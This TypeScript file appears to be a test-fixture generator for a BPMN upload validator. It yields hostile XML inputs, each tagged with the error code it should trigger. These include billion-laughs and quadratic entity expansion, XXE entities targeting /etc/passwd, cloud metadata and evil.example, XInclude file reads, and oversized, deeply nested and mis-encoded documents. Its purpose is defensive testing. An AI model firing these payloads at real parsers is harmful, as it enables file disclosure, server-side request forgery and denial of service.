import type { BadUpload } from './bad-upload.ts';
import { around, definitions, processFile } from './wrap.ts';

const encoder = new TextEncoder();
const times = <Value>(count: number, make: (index: number) => Value): Value[] => Array.from({ length: count }, (_none, index) => make(index));
const repeated = (count: number, make: (index: number) => string): string => times(count, make).join('');

const good = around('a', '<bpmn:userTask id="a" name="Check" />');
const body = good.replace(/^<\?xml[^>]*>\s*/, '');
const head = '<?xml version="1.0" encoding="UTF-8"?>';

function* texts(family: string, code: string, xmls: readonly string[]): Generator<BadUpload> {
  for (const xml of xmls) {
    if (xml === good) throw new Error(`${family}: nothing was made wrong`);
    yield { family, code, bytes: encoder.encode(xml) };
  }
}

/** What is wrong with the XML itself, before anybody asks what it means. */
export function* badXml(): Generator<BadUpload> {
  yield* texts('billion laughs', 'bpmn_doctype', times(10, (index) => `${head}<!DOCTYPE lolz [<!ENTITY l0 "lol">${repeated(index + 5, (at) => `<!ENTITY l${String(at + 1)} "${`&l${String(at)};`.repeat(10)}">`)}]>${body.replace('Check', `&l${String(index + 5)};`)}`));
  yield* texts('quadratic blow-up', 'bpmn_doctype', times(10, (index) => `${head}<!DOCTYPE q [<!ENTITY a "${'a'.repeat(20_000 * (index + 1))}">]>${body.replace('Check', '&a;'.repeat(5000))}`));
  const targets = ['file:///etc/passwd', 'file:///c:/windows/win.ini', 'http://127.0.0.1:80/', 'http://metadata.example/latest', 'https://evil.example/x', 'ftp://evil.example/x', 'gopher://127.0.0.1:25/x', 'jar:http://evil.example/x!/y', 'php://filter/read=convert.base64-encode/resource=/etc/passwd', 'expect://id', 'data:text/plain,x', '\\\\evil.example\\share'];
  yield* texts('external entity', 'bpmn_doctype', targets.flatMap((target) => [
    `${head}<!DOCTYPE x [<!ENTITY e SYSTEM "${target}">]>${body.replace('Check', '&e;')}`,
    `${head}<!DOCTYPE x [<!ENTITY % p SYSTEM "${target}"> %p;]>${body}`,
    `${head}<!DOCTYPE x [<!ENTITY % p "<!ENTITY &#37; q SYSTEM '${target}'>"> %p; %q;]>${body}`,
  ]));
  yield* texts('external DTD', 'bpmn_doctype', ['<!DOCTYPE definitions SYSTEM "http://evil.example/x.dtd">', '<!DOCTYPE definitions PUBLIC "-//X//Y" "http://evil.example/x.dtd">', '<!doctype definitions SYSTEM "x">', '<!DOCTYPE\ndefinitions\nSYSTEM\n"x">', '<!-- first --><!DOCTYPE d SYSTEM "x">', '<?pi?><!DOCTYPE d SYSTEM "x">', '<!DOCTYPE d [<!ELEMENT d ANY>]>', '<!DOCTYPE d [<!ATTLIST d a CDATA "x">]>', '<!DOCTYPE d>', '<!ENTITY e "x">'].map((type) => `${head}${type}${body}`));
  yield* texts('document type inside', 'bpmn_doctype', ['<bpmn:process', '<bpmn:userTask', '<bpmn:endEvent'].map((at) => good.replace(at, `<!DOCTYPE d [<!ENTITY e "x">]>${at}`)));
  yield* texts('entity without a type', 'bpmn_entity', ['&lol;', '&e;', '&nbsp;', '&xxe;', '&', '&#x;', '&#;', '&amp', '&LT;', '& amp;'].map((entity) => good.replace('Check', entity)));
  yield* texts('XInclude', 'bpmn_include', ['<xi:include href="file:///etc/passwd" parse="text"/>', '<xi:include href="http://evil.example/x"/>', '<xi:include href="other.bpmn" xpointer="element(/1)"/>'].flatMap((include) => [
    processFile(include.replace('<xi:include', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"')),
    around('a', `<bpmn:userTask id="a"><bpmn:extensionElements>${include.replace('<xi:include', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"')}</bpmn:extensionElements></bpmn:userTask>`),
    around('a', `<bpmn:userTask id="a"><bpmn:documentation><x xmlns:xi="http://www.w3.org/2001/XInclude">${include}</x></bpmn:documentation></bpmn:userTask>`),
  ]));
  yield* encodings();
  yield* texts('depth', 'bpmn_too_deep', [65, 100, 1000, 10_000, 50_000].flatMap((depth) => [
    processFile('<bpmn:subProcess>'.repeat(depth) + '</bpmn:subProcess>'.repeat(depth)),
    around('a', `<bpmn:userTask id="a"><bpmn:extensionElements>${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}</bpmn:extensionElements></bpmn:userTask>`),
    processFile('<a>'.repeat(depth)),
  ]));
  yield* texts('attributes', 'bpmn_too_many', [201, 500, 5000, 50_000, 100_000].flatMap((count) => [
    good.replace('id="a"', `id="a" ${repeated(count, (index) => `a${String(index)}="" `)}`),
    good.replace('<bpmn:definitions', `<bpmn:definitions ${repeated(count, (index) => `xmlns:n${String(index)}="u" `)}`),
  ]));
  yield* texts('elements', 'bpmn_too_many', [
    processFile(`<bpmn:laneSet id="l">${repeated(10_000, (index) => `<bpmn:lane id="l${String(index)}" />`)}</bpmn:laneSet>`),
    processFile(`<bpmn:laneSet id="l">${repeated(10_000, (index) => `<bpmn:lane id="l${String(index)}"><bpmn:flowNodeRef>l</bpmn:flowNodeRef></bpmn:lane>`)}</bpmn:laneSet>`),
    processFile(`<bpmn:laneSet id="l">${repeated(1001, () => '<bpmn:lane />')}</bpmn:laneSet>`),
    processFile(repeated(20_001, (index) => `<bpmn:task id="t${String(index)}" />`)),
    processFile(repeated(60_000, () => '<bpmn:task />')),
    processFile('<a/>'.repeat(400_000)),
    definitions(repeated(201, (index) => `<bpmn:process id="p${String(index)}" />`)),
    definitions(`<bpmn:process id="p" /><bpmndi:BPMNDiagram><bpmndi:BPMNPlane bpmnElement="p">${repeated(15_000, () => '<bpmndi:BPMNShape><dc:Bounds x="1" y="1" width="1" height="1" /></bpmndi:BPMNShape>')}</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>`),
    definitions(`<bpmn:process id="p" /><bpmndi:BPMNDiagram><bpmndi:BPMNPlane bpmnElement="p"><bpmndi:BPMNEdge>${'<di:waypoint x="1" y="1" />'.repeat(60_000)}</bpmndi:BPMNEdge></bpmndi:BPMNPlane></bpmndi:BPMNDiagram>`),
  ]);
  yield* texts('size', 'bpmn_too_large', [good.replace('Check', 'x'.repeat(2_000_000)), good.replace('Check', 'ü'.repeat(1_000_000)), good.replace('Check', '終'.repeat(700_000)), `${good}${' '.repeat(2_000_000)}`, `${good}<!--${'x'.repeat(3_000_000)}-->`, 'x'.repeat(5_000_000), '<'.repeat(2_100_000)]);
  yield* texts('text without end', 'bpmn_xml_broken', ['<'.repeat(1_900_000), `${good.slice(0, 300)}${'<!--'.repeat(400_000)}`, `<a b="${'x'.repeat(1_900_000)}`, `<a${' '.repeat(1_900_000)}b`, `<${'a'.repeat(1_900_000)}`, `<a ${'b="" '.repeat(150)}${'c'.repeat(1_000_000)}`, `${'<?a '.repeat(400_000)}`, `<a>${'<![CDATA['.repeat(200_000)}`, ' '.repeat(1_900_000), '\n'.repeat(1_900_000), '</a>'.repeat(400_000), `<a>${']]>'.repeat(500_000)}</a>`]);
  yield* texts('broken', 'bpmn_xml_broken', [
    ...times(15, (index) => good.slice(0, Math.floor((good.length * (index + 2)) / 18))),
    good.replace('</bpmn:process>', ''), good.replace('</bpmn:process>', '</bpmn:Process>'), good.replace('id="a"', 'id="a" id="a"'), good.replace('id="a"', 'id=a'), good.replace('name="Check"', 'name="a<b"'), good.replace('name="Check"', "name='Check\""), `${good}<x/>`, `x${good}`, good.replace('<bpmn:userTask', '<bpmn:userTask <'), good.replace('<bpmn:userTask', '< bpmn:userTask'), good.replace('Check', '&#0;'), good.replace('Check', '&#xD800;'), good.replace('Check', '&#x110000;'), good.replace('Check', '\u0001'), good.replace('<bpmn:userTask', ']]><bpmn:userTask'), good.replace('<?xml', ' <?xml').replace('?>', ''), good.replaceAll('xmlns:bpmn=', 'xmlns:other='),
  ]);
}

function* encodings(): Generator<BadUpload> {
  const as = (bytes: Uint8Array): BadUpload => ({ family: 'encoding', code: 'bpmn_encoding', bytes });
  const wide = (text: string, size: 2 | 4, isLittle: boolean): Uint8Array => {
    const view = new DataView(new ArrayBuffer(text.length * size));
    for (let at = 0; at < text.length; at += 1) {
      if (size === 2) view.setUint16(at * 2, text.charCodeAt(at), isLittle);
      else view.setUint32(at * 4, text.charCodeAt(at), isLittle);
    }
    return new Uint8Array(view.buffer);
  };
  for (const size of [2, 4] as const) for (const isLittle of [true, false]) for (const mark of ['', '\uFEFF']) for (const name of ['UTF-16', 'UTF-8']) yield as(wide(`${mark}${good.replace('UTF-8', name)}`, size, isLittle));
  for (const name of ['UTF-7', 'utf-7', 'UTF-16', 'UTF-16LE', 'UTF-32', 'ISO-8859-5', 'windows-1251', 'Shift_JIS', 'EBCDIC-CP-US', 'x-user-defined', 'UTF8-MAC', 'HZ-GB-2312']) yield* texts('encoding', 'bpmn_encoding', [good.replace('UTF-8', name)]);
  for (const broken of [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe2, 0x82]]) {
    const bytes = encoder.encode(good);
    yield as(new Uint8Array([...bytes.slice(0, 300), ...broken, ...bytes.slice(300)]));
  }
  // UTF-7 that does not say so is text before the first element.
  yield* texts('encoding', 'bpmn_xml_broken', [good.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')]);
}

